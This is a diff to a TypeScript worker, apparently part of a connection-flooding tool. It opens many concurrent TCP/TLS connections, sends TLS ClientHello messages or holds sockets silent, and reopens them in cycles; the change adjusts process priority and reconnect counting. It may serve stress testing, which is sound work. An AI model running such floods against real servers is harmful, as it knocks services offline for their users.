@@ -8,7 +8,7 @@ import type { FloodOrder, FloodReport } from "./flood.ts";
 
 // One attacker as a process of its own: a process may have only a limited number of open files. It yields the
 // processor to the others, because an attacker computes on a machine of its own.
-setPriority(constants.priority.PRIORITY_LOW);
+setPriority(constants.priority.PRIORITY_BELOW_NORMAL);
 
 const order: FloodOrder = JSON.parse(await text(process.stdin));
 const secureContext = createSecureContext({
@@ -18,11 +18,15 @@ const secureContext = createSecureContext({
 const hello = clientHello(0x0303, [0xc02b]);
 const report: FloodReport = { attempts: 0, connected: 0, open: 0, mostOpen: 0, answers: {} };
 let pending = 0;
+/** Of those that are to be opened again. */
+let closed = 0;
 let isOver = false;
 
 /** Opens the next connections until all were tried; a new one whenever one is through or refused. */
 function go(): void {
-  while (pending < order.atOnce && report.attempts < order.connections) attempt(report.attempts++);
+  while (pending < order.atOnce && report.attempts - closed < order.connections) {
+    attempt(report.attempts++);
+  }
   if (!isOver && !order.cycles && pending === 0 && report.attempts === order.connections) {
     isOver = true;
     announce("tried");
@@ -50,7 +54,7 @@ function attempt(number: number): void {
     if (order.kind === "hello") tcp.write(hello, settle);
   });
   tcp.on("error", () => {}).on("close", settle);
-  if (order.cycles) tcp.on("close", () => setImmediate(() => attempt(report.attempts++)));
+  if (order.cycles) tcp.on("close", () => closed++);
   if (order.kind === "silent" || order.kind === "hello") tcp.resume();
   else speak(tcp, settle);
 }
